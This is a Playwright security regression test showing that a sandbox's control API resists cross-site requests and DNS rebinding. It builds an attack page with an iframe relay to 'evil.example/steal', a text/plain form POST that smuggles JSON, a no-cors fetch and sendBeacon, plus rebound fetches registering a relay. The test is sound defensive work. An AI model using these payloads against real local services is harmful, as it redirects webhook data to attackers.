/**
 * Issue #21, item 6, in a real Chromium: a page on another site must not drive the sandbox's
 * control API. On main, an <iframe> (a GET without Origin) registered a `listen` relay to the
 * attacker's URL and the next push went there instead of the partner's receiver; a page whose
 * name was rebound to 127.0.0.1 (DNS rebinding) read the stats and registered a relay too.
 * `evil.example` and `rebind.example` resolve to 127.0.0.1 through Chromium's own resolver
 * rules, so the browser treats them as the other sites they would be.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chromiumFlags, executablePath, hasChromium } from '../../helpers/chromium.js';
import { closers, sandboxWith } from '../helpers.js';

describe.runIf(hasChromium)('a cross-site page and a DNS-rebinding page cannot drive the control API (Chromium)', { timeout: 60_000 }, () => {
  let context: BrowserContext;
  let profile: string;
  beforeAll(async () => {
    profile = mkdtempSync(join(tmpdir(), 'channel-sdk-chromium-'));
    context = await chromium.launchPersistentContext(profile, {
      executablePath,
      headless: true,
      args: [...chromiumFlags, '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1'],
    });
  }, 60_000);
  afterAll(async () => {
    await context?.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  async function serve(handler: Parameters<typeof createServer>[1]): Promise<number> {
    const server: Server = createServer(handler);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    closers.push(() => new Promise((resolve) => (server.closeAllConnections(), server.close(resolve))));
    return (server.address() as AddressInfo).port;
  }

  test('an <iframe>, a form POST, a no-cors fetch and sendBeacon from another site change nothing; the push reaches the receiver', async () => {
    const received: string[] = [];
    const hook = `http://127.0.0.1:${await serve((req, res) => (req.resume(), received.push(req.url ?? ''), res.end('{"ok":true}')))}/webhooks/channel`;
    const sandbox = await sandboxWith({ webhookUrl: hook, webhookTimeoutMs: 2000 });
    const attack = `<!doctype html><body>
<iframe src="${sandbox.url}/__sandbox/listen?forward_to=http://evil.example/steal"></iframe>
<iframe name="sink"></iframe>
<form id="f" method="POST" action="${sandbox.url}/__sandbox/fail-next" enctype="text/plain" target="sink"><input name='{"count":5,"x":"' value='"}'></form>
<script>
  f.submit();
  fetch('${sandbox.url}/__sandbox/ttl', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"seconds":5}' }).catch(() => {});
  navigator.sendBeacon('${sandbox.url}/__sandbox/expire', '{}');
</script></body>`;
    const evil = await serve((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(attack));
    const controlHits: string[] = [];
    context.on('request', (r) => r.url().includes('/__sandbox/') && controlHits.push(r.method() + ' ' + new URL(r.url()).pathname));
    const page = await context.newPage();
    await page.goto(`http://evil.example:${evil}/`, { waitUntil: 'domcontentloaded' });
    await expect.poll(() => controlHits.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(4); // the page really made each request
    await new Promise((resolve) => setTimeout(resolve, 500));
    const stats = (await (await fetch(sandbox.url + '/__sandbox/stats')).json()) as {
      listeners: string[];
      failNext: { count: number };
      tokenTtlSeconds: number;
    };
    expect({ listeners: stats.listeners, failNext: stats.failNext.count, ttl: stats.tokenTtlSeconds }).toEqual({ listeners: [], failNext: 0, ttl: 900 });
    const pushed = await sandbox.pushLogistics('SO20240601001');
    expect(pushed).toMatchObject({ ok: true, via: 'direct', url: hook });
    expect(received).toEqual(['/webhooks/channel']);
    await page.close();
  });

  test('a page rebound to 127.0.0.1 (same origin as the sandbox) can neither read the control API nor register a relay', async () => {
    const sandbox = await sandboxWith();
    const port = new URL(sandbox.url).port;
    const page = await context.newPage();
    // The attacker's page, after its name now resolves to the sandbox: same origin, so no CORS and no Origin on a GET.
    await page.goto(`http://rebind.example:${port}/__sandbox/stats`, { waitUntil: 'domcontentloaded' });
    const outcome = await page.evaluate(async () => {
      const status = (p: Promise<Response>) => p.then((r) => r.status).catch((e: Error) => e.message);
      return {
        stats: await status(fetch('/__sandbox/stats')),
        events: await status(fetch('/__sandbox/events')),
        listenGet: await status(fetch('/__sandbox/listen?forward_to=http://evil.example/rebound')),
        listenPost: await status(
          fetch('/__sandbox/listen', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"forward_to":"http://evil.example/rebound"}' }),
        ),
        token: await status(fetch('/__sandbox/token', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"x"}' })),
      };
    });
    expect(outcome).toEqual({ stats: 403, events: 403, listenGet: 403, listenPost: 403, token: 403 });
    expect(((await (await fetch(sandbox.url + '/__sandbox/stats')).json()) as { listeners: string[] }).listeners).toEqual([]);
    expect(sandbox.stats.tokensIssued).toBe(0);
    await page.close();
  });
});
